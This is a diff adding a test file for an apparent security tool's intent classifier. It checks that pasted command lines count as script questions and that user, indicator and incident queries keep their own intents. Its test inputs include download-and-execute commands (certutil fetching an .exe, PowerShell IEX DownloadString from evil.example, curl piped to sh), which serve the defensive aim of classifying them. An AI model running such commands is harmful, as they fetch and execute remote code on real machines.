@@ -1,0 +1,32 @@
+/**
+ * A pasted command line is a script question, whatever hosts, addresses or names it carries; ordinary
+ * questions that mention PowerShell words in passing are not.
+ */
+import { describe, expect, it } from 'vitest';
+import { extractEntities } from '../../../../src/core/grounding/extract-entities.js';
+import { classifyIntent } from '../../../../src/core/planner/classify-intent.js';
+import { ENCODED_COMMAND_LINE } from '../../../../src/demo/seed/encoded-powershell.js';
+
+const intentOf = (text: string) => classifyIntent(text, extractEntities(text)).intent;
+
+describe('script questions', () => {
+  it.each([
+    `what does this do? ${ENCODED_COMMAND_LINE}`,
+    ENCODED_COMMAND_LINE,
+    'is this bad: cmd.exe /c certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe',
+    "explain IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
+    'curl -s https://get.example/install | sh',
+    'pwsh -nop -c "Get-Process"',
+  ])('"%s" is a script question', (text) => {
+    expect(intentOf(text)).toBe('script');
+  });
+
+  it.each([
+    ['is adele.vance@contoso.com compromised?', 'user-risk'],
+    ['check 185.220.101.4', 'indicator'],
+    ['show risky users', 'risky-users'],
+    ['summarise incident 4211', 'incident'],
+  ])('"%s" stays %s', (text, intent) => {
+    expect(intentOf(text)).toBe(intent);
+  });
+});
